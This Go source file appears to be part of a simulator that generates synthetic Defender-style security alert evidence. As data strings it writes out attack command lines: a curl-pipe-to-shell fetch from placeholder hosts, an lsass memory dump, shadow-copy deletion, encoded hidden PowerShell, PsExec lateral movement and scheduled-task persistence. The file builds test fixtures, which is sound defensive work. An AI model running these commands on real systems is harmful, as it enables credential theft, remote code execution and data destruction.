package mdesim

import (
	"fmt"
	"strings"
	"time"
)

// traces is what a usual alert leaves behind: a process, perhaps a file, and where
// it connected to. On systems other than Windows there is a shell instead of the
// process.
type traces struct {
	process, file string // names of known files
	line          string
	ip, url       string
}

// tracesOf is the traces of the seeded alerts by the beginning of their titles.
// Addresses and names are of the ranges that are reserved for documentation.
func tracesOf(title string) traces {
	switch {
	case strings.HasPrefix(title, "Low-reputation"):
		return traces{process: "regsvr32.exe", file: "suspicious.dll", line: `regsvr32.exe /s c:\temp\suspicious.dll`}
	case strings.HasPrefix(title, "Suspicious 'Meterpreter'"):
		return traces{process: "svc-update.exe", file: "svc-update.exe", line: `svc-update.exe -q`, ip: "198.51.100.66"}
	case strings.HasPrefix(title, "Suspicious PowerShell"):
		return traces{process: "powershell.exe", line: "powershell.exe -nop -w hidden -enc SQBFAFgA", url: "https://cdn-static.example.net/p.ps1"}
	case strings.HasPrefix(title, "Sensitive credential"):
		return traces{process: "procdump64.exe", line: "procdump64.exe -ma lsass.exe c:\\temp\\l.dmp"}
	case strings.HasPrefix(title, "An active 'Emotet'"):
		return traces{process: "WINWORD.EXE", file: "invoice-8841.docm", line: `"WINWORD.EXE" /n invoice-8841.docm`, url: "http://invoices.example.com/dl/8841", ip: "203.0.113.88"}
	case strings.HasPrefix(title, "Possible lateral movement"):
		return traces{process: "PsExec.exe", line: `PsExec.exe \\srv-file01 -s cmd.exe`}
	case strings.HasPrefix(title, "Anomalous scheduled task"):
		return traces{process: "schtasks.exe", file: "updater.exe", line: `schtasks.exe /create /tn updater /sc minute /tr c:\users\public\updater.exe`}
	case strings.HasPrefix(title, "Ransomware-linked"):
		return traces{process: "vssadmin.exe", file: "lockit.exe", line: "vssadmin.exe delete shadows /all /quiet", ip: "198.51.100.140"}
	case strings.HasPrefix(title, "Connection to a custom"):
		return traces{process: "msedge.exe", line: `"msedge.exe" --profile-directory=Default`, url: "http://beacon.example.org/a", ip: "198.51.100.77"}
	case strings.HasPrefix(title, "Suspicious account discovery"):
		return traces{process: "net.exe", line: `net.exe group "Domain Admins" /domain`}
	}
	return traces{}
}

// evidenceOn is the evidence of a seeded alert about a device. It does not use the
// tenant's random numbers, which the rest of the seed depends on.
func evidenceOn(d *device, title string, at time.Time) []Evidence {
	tr := tracesOf(title)
	if len(d.users) == 0 || tr == (traces{}) {
		return nil
	}
	out := []Evidence{userEvidence(d.users[0], at)}
	switch {
	case d.runsWindows():
		out = append(out, processEvidence(d, tr, at))
	case d.linux() || d.OSPlatform == "macOS":
		out = append(out, shellEvidence(d, tr, at))
	}
	if f, ok := knownFileNamed(tr.file); ok && d.runsWindows() {
		out = append(out, f.evidence("File", at))
	}
	if tr.ip != "" {
		out = append(out, Evidence{EntityType: "Ip", EvidenceCreationTime: at, IPAddress: Nullable(tr.ip)})
	}
	if tr.url != "" {
		out = append(out, Evidence{EntityType: "Url", EvidenceCreationTime: at, URL: Nullable(tr.url)})
	}
	return out
}

// processEvidence is a process on Windows with the command shell above it.
func processEvidence(d *device, tr traces, at time.Time) Evidence {
	f, _ := knownFileNamed(tr.process)
	e := f.evidence("Process", at)
	return e.running(d, tr.line, "cmd.exe", `C:\Windows\System32`)
}

// shellEvidence is the shell on Linux and macOS.
func shellEvidence(d *device, tr traces, at time.Time) Evidence {
	e := Evidence{EntityType: "Process", EvidenceCreationTime: at, FileName: "bash", FilePath: "/usr/bin", DetectionStatus: "Detected"}
	line := "bash -c id"
	if target := orDefault(tr.url, tr.ip); target != "" {
		line = "bash -c 'curl -s " + target + " | sh'"
	}
	return e.running(d, line, "sshd", "/usr/sbin")
}

// running adds what evidence tells of a process.
func (e Evidence) running(d *device, line, parent, folder string) Evidence {
	key := fmt.Sprintf("%s/%d", d.ID, e.EvidenceCreationTime.Unix())
	pid, ppid := 2000+int64(hash64(key+"/pid")%9000)*4, 1000+int64(hash64(key+"/ppid")%250)*4
	started := e.EvidenceCreationTime.Add(-time.Minute)
	above := started.Add(-time.Second)
	e.ProcessID, e.ProcessCommandLine, e.ProcessCreationTime = &pid, Nullable(line), &started
	e.ParentProcessID, e.ParentProcessCreationTime = &ppid, &above
	e.ParentProcessFileName, e.ParentProcessFilePath = Nullable(parent), Nullable(folder)
	return e
}

// userEvidence is an account of an alert.
func userEvidence(u LogonUser, at time.Time) Evidence {
	return Evidence{
		EntityType: "User", EvidenceCreationTime: at,
		AccountName: Nullable(u.AccountName), DomainName: Nullable(u.AccountDomain), UserSID: Nullable(accountSID(u.AccountDomain, u.AccountName)),
		UserPrincipalName: Nullable(u.AccountName + "@" + strings.ToLower(u.AccountDomain) + ".com"),
	}
}
